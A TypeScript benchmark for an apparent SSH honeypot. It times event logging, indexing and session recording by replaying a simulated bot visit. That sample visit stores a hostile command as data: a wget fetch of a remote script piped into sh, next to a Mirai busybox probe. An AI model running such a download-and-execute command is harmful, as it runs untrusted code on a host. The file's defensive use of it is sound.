/** What events cost: telling, writing and indexing; what a session takes on disk; what recording adds. */
import { mkdtempSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { systemClock } from '../src/base/clock.ts'
import { createAllowance } from '../src/events/allowance.ts'
import { createBus } from '../src/events/bus.ts'
import { createDisk } from '../src/events/disk.ts'
import type { Happening, VisitIdentity } from '../src/events/events.ts'
import { systemFiles } from '../src/events/files.ts'
import { createRecorder } from '../src/events/recorder.ts'
import { SAMPLES } from '../src/events/samples.test-kit.ts'
import type { SinkPlugin } from '../src/events/sink.ts'
import { sink as index } from '../src/events/sinks/index.ts'
import { sink as json } from '../src/events/sinks/json.ts'

const SESSIONS = 4_000
const clock = systemClock()
const allowance = createAllowance({ clock, bytesMax: 2 ** 33, muted: () => {} })
const report = (cause: unknown): void => {
  throw cause
}

/** What a bot's SSH visit tells: a wrong password, a right one, three commands. */
const VISIT: readonly Happening[] = [
  SAMPLES['session.connect'],
  SAMPLES['client.version'],
  {
    ...SAMPLES['client.kex'],
    kex: Array(13).fill('diffie-hellman-group-exchange-sha256'),
    hostKeys: Array(16).fill('ecdsa-sha2-nistp256-cert-v01@openssh.com'),
    ciphers: Array(6).fill('chacha20-poly1305@openssh.com'),
    macs: Array(10).fill('hmac-sha2-256-etm@openssh.com'),
  },
  {
    type: 'login.failed',
    username: 'root',
    proof: { method: 'password', password: '3245gs5662d34' },
  },
  SAMPLES['login.success'],
  SAMPLES['session.params'],
  { type: 'command.input', input: 'uname -s -v -n -r -m' },
  { type: 'command.input', input: 'cd /tmp && wget http://192.0.2.9/x.sh -O- | sh' },
  { type: 'command.failed', input: 'busybox MIRAI' },
  SAMPLES['session.closed'],
]

const visitor = (n: number): VisitIdentity => ({
  session: n.toString(16).padStart(12, '0'),
  protocol: 'ssh',
  address: `203.0.${(n >> 8) & 255}.${n & 255}`,
  network: `203.0.${(n >> 8) & 255}.${n & 255}`,
  port: 1024 + (n % 60_000),
  localAddress: '198.51.100.1',
  localPort: 22,
  world: `203.0.${(n >> 8) & 255}.${n & 255}`,
})

const bytesOf = (path: string): number => statSync(path, { throwIfNoEntry: false })?.size ?? 0

const runWith = async (name: string, plugins: readonly SinkPlugin[]): Promise<void> => {
  const dataDir = mkdtempSync(join(tmpdir(), 'mimicry-bench-'))
  const bus = createBus({ clock, allowance, report })
  const disk = createDisk(clock, () => {})
  for (const plugin of plugins) {
    bus.subscribe(
      await plugin.open({
        dataDir,
        sensor: 'bench',
        uuid: '2b02a1de-0000-8000-8000-000000000000',
        keepDays: 90,
        bytesMax: 2 ** 33,
        clock,
        files: systemFiles(),
        disk,
        wrote: () => {},
        report,
      }),
    )
  }
  const cpuFrom = process.cpuUsage()
  const fromMs = clock.ticksMs()
  let longestMs = 0
  for (let n = 0; n < SESSIONS; n++) {
    const who = visitor(n)
    for (const what of VISIT) bus.tell(what, who)
    if (n % 50 !== 49) continue
    const turnMs = clock.ticksMs()
    await new Promise(setImmediate)
    longestMs = Math.max(longestMs, clock.ticksMs() - turnMs)
  }
  const toldMs = clock.ticksMs() - fromMs
  await bus.close()
  const events = SESSIONS * VISIT.length
  const tookMs = clock.ticksMs() - fromMs
  const { user, system } = process.cpuUsage(cpuFrom)
  const line =
    `${name.padEnd(16)} ${Math.round((events / tookMs) * 1000)} events/s, ` +
    `${((user + system) / events).toFixed(1)} us CPU each, ` +
    `${((user + system) / 1000 / SESSIONS).toFixed(3)} ms a visit of ${VISIT.length}, ` +
    `told in ${((toldMs / events) * 1000).toFixed(1)} us, longest turn ${longestMs.toFixed(0)} ms`
  console.log(line)
  const [logBytes, indexBytes] = ['log/mimicry.json', 'index.db'].map((it) =>
    bytesOf(join(dataDir, it)),
  )
  const perThousand = (bytes = 0): string => `${(bytes / SESSIONS / 1.024).toFixed(0)} KiB`
  if (logBytes) console.log(`${''.padEnd(16)} log per 1,000 sessions   ${perThousand(logBytes)}`)
  if (indexBytes)
    console.log(`${''.padEnd(16)} index per 1,000 sessions ${perThousand(indexBytes)}`)
  rmSync(dataDir, { recursive: true })
}

const record = async (): Promise<void> => {
  const dataDir = mkdtempSync(join(tmpdir(), 'mimicry-bench-'))
  const recorder = createRecorder({
    dataDir,
    clock,
    files: systemFiles(),
    disk: createDisk(clock, () => {}),
    allowance,
    events: { tell: () => {} },
    wrote: () => {},
    report,
  })
  const key = Buffer.from('l')
  const screen = Buffer.alloc(4_096, 'total 12 drwxr-xr-x 2 root root 4096 Nov 22 01:03 a\r\n')
  const each = (count: number, chunk: Buffer): number => {
    const tape = recorder.open(visitor(count), 1, { name: 'xterm', columns: 80, rows: 24 })
    const fromMs = clock.ticksMs()
    for (let n = 0; n < count; n++) tape?.out(chunk)
    const tookMs = clock.ticksMs() - fromMs
    tape?.end()
    return (tookMs / count) * 1000
  }
  each(2_000, key)
  console.log(`recording        a key's echo ${each(20_000, key).toFixed(1)} us`)
  await new Promise((later) => setTimeout(later, 1_500))
  console.log(`${''.padEnd(16)} 4 KiB shown  ${each(1_000, screen).toFixed(1)} us`)
  await recorder.close()
  rmSync(dataDir, { recursive: true })
}

const nothing: SinkPlugin = {
  name: 'nothing',
  open: async () => ({ name: 'nothing', take: async () => {}, close: async () => {} }),
}
await runWith('(warm-up)', [json, index])
await runWith('bus alone', [nothing])
await runWith('log', [json])
await runWith('index', [index])
await runWith('log and index', [json, index])
await record()
